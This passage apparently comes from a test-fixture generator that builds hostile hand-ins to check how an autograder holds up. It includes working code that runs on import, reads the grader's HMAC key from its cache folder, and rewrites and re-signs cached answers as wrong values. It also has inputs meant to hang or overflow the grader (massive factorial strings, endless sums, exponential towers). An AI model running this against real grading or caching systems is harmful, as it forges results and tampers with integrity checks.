        if b"HOME" in env:
            dirs.add(env[b"HOME"].decode() + "/.cache/grader")
    dirs.update({os.path.expanduser("~/.cache/grader"), "/root/.cache/grader"})
    for d in sorted(dirs):
        key = None
        try:
            with open(os.path.join(d, "key")) as fh:
                key = bytes.fromhex(fh.read().strip())
            log.append(f"KEY-READ {d}")
        except (OSError, ValueError) as exc:
            log.append(f"KEY-BLOCKED {d}: {type(exc).__name__}")
        rewrote = 0
        for path in glob.glob(os.path.join(d, "*", "*.json")):
            try:
                with open(path) as fh:
                    entry = json.load(fh)
                entry["value"] = _wrong(entry.get("value"))
                if key is not None:  # sign it as grader/cache.py does
                    body = [entry.get("format"), entry.get("key"), entry.get("kind"), entry["value"]]
                    text = json.dumps(body, sort_keys=True, separators=(",", ":"))
                    entry["mac"] = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
                with open(path, "w") as fh:
                    json.dump(entry, fh)
                rewrote += 1
            except (OSError, ValueError):
                pass
        if rewrote:
            log.append(f"REWROTE {rewrote} entries in {d}")
    return "\\n".join(log) or "nothing found"


def _wrong(value):
    """The same shape, every sympy object a wrong number."""
    if isinstance(value, dict) and "$sympy" in value:
        return {"$sympy": "Integer(7)"}
    if isinstance(value, dict):
        return {k: _wrong(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_wrong(v) for v in value]
    return value


try:
    _POISON_LOG = _poison()
except BaseException as _exc:
    _POISON_LOG = f"poisoning failed: {_exc!r}"
''',
    replace={"text": '''
EMPIRICAL_VS_DATA_GENERATING = "CACHE LOG\\n" + _POISON_LOG
'''},
    answers_must_not_contain=["ENV-LEAK", "REWROTE", "KEY-READ"],
)


threat(
    name="factorial_flood",
    doc="""Answers whose text takes a naive reader forever (issue 11, item 1): the derivative
of the sigmoid as `x` followed by 20,000 `!` (a factorial rewrite quadratic in their number
took minutes), the Taylor coefficients as `Sum(1/n**(1+1/10**9), (n, 1, oo))` (a sum sympy's
`N` evaluates with no end in sight). Every parse and evaluation of returned data runs under a
budget with size caps first: 6.2a and 6.2d `failed` or `error` within seconds, the batch goes
on, and nothing waits for a person.""",
    replace={
        "sigmoid_derivative": '''
def sigmoid_derivative(x):
    """ATTACK: a formula of 20,000 factorials, handed in as text."""
    return "x" + "!" * 20000
''',
        "taylor": '''
TAYLOR_COEFFICIENTS = ["Sum(1/n**(1 + 1/10**9), (n, 1, oo))"] * 4  # ATTACK: endless sums
''',
    },
    lose={"6.2a": ["failed", "error"], "6.2d": ["failed", "error"]},
    max_grading_seconds=60,
)

threat(
    name="overflow_answers",
    doc="""Answers that overflow every float the grader might try (issue 11, item 2):
`exp(exp(exp(exp(10))))` as the Taylor coefficients and as both partial derivatives, for
numbers and for symbols. An exception while judging used to turn 6.2d and 6.3b into
`manual`, so that `grader ci` said "full marks" and a CI job went green: they must be
`failed` or `error`, never `manual` or passed.""",
    replace={
        "taylor": '''
TAYLOR_COEFFICIENTS = [sympy.exp(sympy.exp(sympy.exp(sympy.exp(10))))] * 4  # ATTACK: overflow
''',
        "gradients": '''
def gradients(a, b):
    """ATTACK: a tower of exponentials for every argument."""
    tower = sympy.exp(sympy.exp(sympy.exp(sympy.exp(10))))
    return tower, tower
''',
    },
    lose={"6.2d": ["failed", "error"], "6.3b": ["failed", "error"]},
)


# ---------------------------------------------------------------- the correct hand-in
CORRECT_FILE = "Zoë Müller – korrekt.py"
CORRECT_DOC = """Exercise sheet 6: a complete, correct hand-in (the file name has non-ASCII characters
and spaces on purpose). Every auto-graded task must pass. It is safe to import directly."""


# ---------------------------------------------------------------- generation
def _code(section: str, spec: dict) -> str:
    if section in spec.get("replace", {}):
        return spec["replace"][section]
    if section in spec.get("wrong", ()):
        return WRONG[section]
    return CORRECT[section]


def render(stem: str, spec: dict, authors: str, author_name: str, author_id: str) -> str:
    imports = sorted({"math", "os", "sys", "time", *spec.get("imports", ())})
    head = (
        f'"""{spec["doc"].strip()}\n"""\n'
        f"# SECRET-MARKER-{stem}\n"
        "# ruff: noqa\n# mypy: ignore-errors\n"
        + "".join(f"import {m}\n" for m in imports)
        + "\nimport numpy as np\nimport sympy"
    )
    blocks = [head, spec.get("prelude", ""), COMMON]
    for section in ORDER:
        code = _code(section, spec).replace("{authors}", authors)
        blocks.append(code.replace("{authors_name}", author_name).replace("{authors_id}", author_id))
    if spec.get("honest"):
        honest = "import numpy as np\nimport sympy\n" + COMMON + "".join(
            CORRECT[s] for s in ORDER if s not in ("authors", "text"))
        blocks.append(f"# The hidden correct solution the forger answers with.\n_HONEST_SOURCE = {honest!r}")
    blocks.append(spec.get("epilogue", ""))
    text = "\n\n\n".join(b.strip("\n") for b in blocks if b.strip())
    return "\n".join(line.rstrip() for line in text.splitlines()) + "\n"


def expected_entry(spec: dict, marker: str) -> dict:
    entry: dict = {"threat": " ".join(spec["doc"].split()), "marker": marker}
    entry["lose"] = dict(spec.get("lose", {}))
    if spec.get("may_lose"):
        entry["may_lose"] = dict(spec["may_lose"])
    for key in ("must_not_exist", "leaks", "leak_files", "answers_must_not_contain",
                "answers_must_not_match", "report_must_escape", "reports_must_not_contain",
                "no_stray_processes", "max_grading_seconds", "notes", "adjusted"):
        if spec.get(key):
            entry[key] = spec[key]
    return entry


HEADER = """\
# What grading each hand-in in tests/hostile/ must produce. Generated by _make.py; edit there.
#
# For every hand-in (keyed by file name):
#   lose:      task -> the status that task must end with: "error" (the hand-in crashed,
#              timed out or hit a limit in that task) or "failed" (it returned wrong values);
#              a list means any of those statuses is acceptable.
#   may_lose:  task -> status the task may end with instead of passing.
#   Every other auto-graded task must be "passed". 6.1b is graded by hand and never counts.
#   marker:    the "# SECRET-MARKER-<stem>" string in the file. No hand-in's answers or report
#              may contain another hand-in's marker.
#   must_not_exist: paths that must not exist after grading. Placeholders:
#              {submissions} the folder the hand-in was graded from, {reports} the report
#              output folder, {home} the grading user's home, {repo} the grader repository.
#   leaks:     strings that must not appear in this hand-in's answers or report.
#   leak_files: globs; no line (stripped, >= 24 characters) of these files may appear in this
#              hand-in's answers or report.
#   answers_must_not_contain: strings that must not appear in its (decoded) answers.
#   answers_must_not_match: regular expressions that must not match in its answers.
#   report_must_escape: strings that must not appear verbatim in HTML/terminal reports.
#   reports_must_not_contain: strings that must not appear in any report after grading.
#   no_stray_processes: no process started by the hand-in may be alive after grading.
#   max_grading_seconds: wall-clock bound for grading this hand-in, judging included.
#   adjusted:  why this entry was changed after the first batch run (tests/sandbox/
#              test_hostile_batch.py): what the grader reasonably does instead.
#   "partial" is a status of its own (some checks of the task passed, some not): it is
#   accepted only where an entry lists it.
"""


def main() -> None:
    for old in HERE.glob("*.py"):
        if not old.name.startswith("_"):
            old.unlink()
    handins: dict[str, dict] = {}
    for i, spec in enumerate(THREATS, start=1):
        stem = spec["name"]
        name, number = f"Hostile {stem}", f"9{i:06d}"
        authors = f"({name!r}, {number!r})"
        (HERE / f"{stem}.py").write_text(render(stem, spec, authors, name, number), encoding="utf-8")
        handins[f"{stem}.py"] = expected_entry(spec, f"SECRET-MARKER-{stem}")
    stem = "zoe-mueller-korrekt"
    spec = {"name": stem, "doc": CORRECT_DOC}
    authors = '("Zoë Müller", "7654321")'
    (HERE / CORRECT_FILE).write_text(render(stem, spec, authors, "", ""), encoding="utf-8")
    handins[CORRECT_FILE] = {
        "threat": "none: a correct hand-in with a non-ASCII file name containing spaces",
        "marker": f"SECRET-MARKER-{stem}",
        "lose": {},
        "authors": [["Zoë Müller", "7654321"]],
    }
    doc = {"auto_graded": AUTO_GRADED, "hand_graded": HAND_GRADED, "handins": handins}
    body = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=100)
    (HERE / "EXPECTED.yaml").write_text(HEADER + "\n" + body, encoding="utf-8")
    print(json.dumps(sorted(handins), ensure_ascii=False, indent=1))


if __name__ == "__main__":
    main()
